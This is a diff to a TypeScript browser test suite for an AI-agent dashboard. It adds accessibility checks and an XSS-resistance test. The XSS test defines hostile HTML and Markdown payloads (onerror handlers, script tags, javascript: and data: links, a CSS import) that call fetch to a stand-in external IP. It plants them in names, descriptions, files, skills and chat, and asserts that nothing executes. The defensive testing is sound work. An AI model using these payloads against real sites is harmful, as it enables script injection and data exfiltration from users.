@@ -3,6 +3,7 @@ import { readFileSync } from "node:fs"
 import { createRequire } from "node:module"
 import { after, before, test } from "node:test"
 import { startServer, type TestServer } from "../test/server.ts"
+import { until } from "../test/until.ts"
 import { DESKTOP, PHONE, startBrowser, type TestBrowser, type TestPage } from "./browser.ts"
 import { PAGES, signIn } from "./dashboard-pages.ts"
 import { seed } from "./seed.ts"
@@ -33,7 +34,7 @@ interface Violation {
 
 /** What axe finds in the page as it stands. The debugger's own channel runs it: the page's policy would refuse it. */
 async function violations({ page }: TestPage): Promise<string[]> {
-  await page.evaluate(AXE)
+  if (!(await page.evaluate<boolean>("'axe' in window"))) await page.evaluate(AXE)
   const found = await page.evaluate<Violation[]>(
     `axe.run(document, { runOnly: ${JSON.stringify(RULES)} }).then((result) => result.violations)`,
   )
@@ -47,14 +48,13 @@ test("axe finds no violation on any page in either theme, and none is wider than
   const look = async (name: string) => {
     for (const colorScheme of ["light", "dark"] as const) {
       await page.emulateMedia({ colorScheme, reducedMotion: "reduce" })
-      await page.waitForFunction(`document.documentElement.dataset.mantineColorScheme === "${colorScheme}"`)
+      await page.locator(`html[data-mantine-color-scheme="${colorScheme}"]`).waitFor({ state: "attached" })
       await page.evaluate(TWO_FRAMES)
       for (const text of await violations(tab)) found.push(`${name}, ${colorScheme}: ${text}`)
     }
     await page.setViewportSize(PHONE)
-    await page.evaluate(TWO_FRAMES)
-    const wide = await page.evaluate<number>("document.documentElement.scrollWidth - innerWidth")
-    if (wide > 0) found.push(`${name} is ${wide} px wider than a phone`)
+    const fits = () => page.evaluate<boolean>("document.documentElement.scrollWidth <= innerWidth")
+    await until(fits, "it fits", 2000).catch(() => found.push(`${name} is wider than a phone`))
     await page.setViewportSize(DESKTOP)
   }
   await page.goto("/")
@@ -68,4 +68,97 @@ test("axe finds no violation on any page in either theme, and none is wider than
   }
   assert.deepEqual(found, [])
   assert.deepEqual(tab.faults, [])
+})
+
+/** What would tell on itself if it ran: by a dialog, by a mark on the page, or by asking another machine. */
+const SCRIPT = "window.ran=1;alert(1);fetch('http://198.51.100.7/')"
+const HOSTILE = [
+  `<img src=x onerror="${SCRIPT}">`,
+  `<script>${SCRIPT}</script>`,
+  `<svg onload="${SCRIPT}"><a xlink:href="javascript:${SCRIPT}">x</a></svg>`,
+  `[click](javascript:${SCRIPT})`,
+  `[click](data:text/html,<script>${SCRIPT}</script>)`,
+  `![picture](http://198.51.100.7/pixel.png)`,
+  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
+  `<a href="jAvAsCrIpT:${SCRIPT}">x</a><style>@import 'http://198.51.100.7/x.css'</style>`,
+  "```html\n<img src=x onerror=alert(1)>\n```",
+  `<form action="http://198.51.100.7/"><button autofocus onfocus="${SCRIPT}">x</button></form>`,
+].join("\n\n")
+const FILE_NAME = "<img src=x onerror=alert(1)>.txt"
+
+test("hostile texts, names and files run nothing, and nothing leaves the machine", async () => {
+  const user = "mallory"
+  const agent = `/users/${user}/agents/bad`
+  const made = async (method: string, path: string, body: unknown) => {
+    const answer = await server.call(method, path, body)
+    assert.ok(answer.status < 300, `${path}: ${answer.status} ${JSON.stringify(answer.body)}`)
+  }
+  await made("POST", "/users", { user, display_name: HOSTILE.slice(0, 190), tier: "pro" })
+  await made("POST", `/users/${user}/agents`, {
+    name: "bad",
+    description: HOSTILE.slice(0, 900),
+    templates: { "SOUL.md": HOSTILE },
+  })
+  const file = `${agent}/files`
+  await made("PUT", `${file}/${encodeURIComponent(FILE_NAME)}`, HOSTILE)
+  await made("PUT", `${file}/page.html`, `<h1>page</h1><script>${SCRIPT}</script>`)
+  await made("PUT", `${file}/drawing.svg`, `<svg xmlns="http://www.w3.org/2000/svg"><script>${SCRIPT}</script></svg>`)
+  await made("PUT", `${file}/notes.md`, HOSTILE)
+  const echo = `/tool bash {"command":"cat notes.md"}`
+  await made("POST", `${agent}/chat`, { session: "s", messages: [{ role: "user", content: `${HOSTILE}\n\n${echo}` }] })
+  const skill = await fetch(`${server.url}/api/v1/users/${user}/skills/bad/file`, {
+    method: "PUT",
+    headers: { "X-API-Key": server.adminKey, "Content-Type": "text/markdown" },
+    body: `---\nname: bad\ndescription: ${JSON.stringify(HOSTILE.slice(0, 700))}\n---\n${HOSTILE}\n`,
+  })
+  assert.equal(skill.status, 201)
+
+  const { page, context, faults } = await browser.open()
+  const dialogs: string[] = []
+  context.on("dialog", (dialog) => {
+    dialogs.push(dialog.message())
+    void dialog.dismiss()
+  })
+  await signIn(page, server.adminKey)
+  const paths: readonly [string, string][] = [
+    ["agents", "onerror"],
+    ["agents/bad/templates", "Who the agent is"],
+    [`agents/bad/files?path=${encodeURIComponent(FILE_NAME)}`, "onerror"],
+    ["agents/bad/files?path=page.html", "<h1>"],
+    ["agents/bad/files?path=drawing.svg", "svg"],
+    ["agents/bad/files?path=notes.md", "onerror"],
+    ["skills", "onerror"],
+    ["logs", "bash"],
+    ["account", "onerror"],
+    ["chat/bad/s", "onerror"],
+  ]
+  for (const [path, text] of paths) {
+    await page.goto(`/u/${user}/${path}`)
+    await page.getByText(text).first().waitFor()
+    await page.evaluate(TWO_FRAMES)
+    assert.equal(await page.evaluate<unknown>("window.ran"), undefined, path)
+  }
+  // Everything in the conversation that can be opened or followed.
+  for (const summary of await page.locator("main summary").all()) await summary.click()
+  await page
+    .getByText("Copy code")
+    .first()
+    .waitFor({ state: "attached" })
+    .catch(() => undefined)
+  for (const link of await page.locator("main article a").all()) {
+    const href = (await link.getAttribute("href")) ?? ""
+    assert.match(href, /^(https?:|mailto:|\/u\/)/, `a link that is no address: ${href}`)
+  }
+  assert.equal(await page.locator("main iframe, main script, main form[action], main style").count(), 0)
+  // Opened directly, as from a bookmark.
+  for (const name of ["page.html", "drawing.svg", "notes.md"]) {
+    const direct = await context.newPage()
+    const download = direct.waitForEvent("download", { timeout: 1500 }).catch(() => null)
+    await direct.goto(`/api/v1${file}/${name}`).catch(() => null)
+    if ((await download) === null)
+      assert.equal(await direct.evaluate("window.ran").catch(() => undefined), undefined, name)
+    await direct.close()
+  }
+  assert.deepEqual(dialogs, [])
+  assert.deepEqual(faults, [])
 })
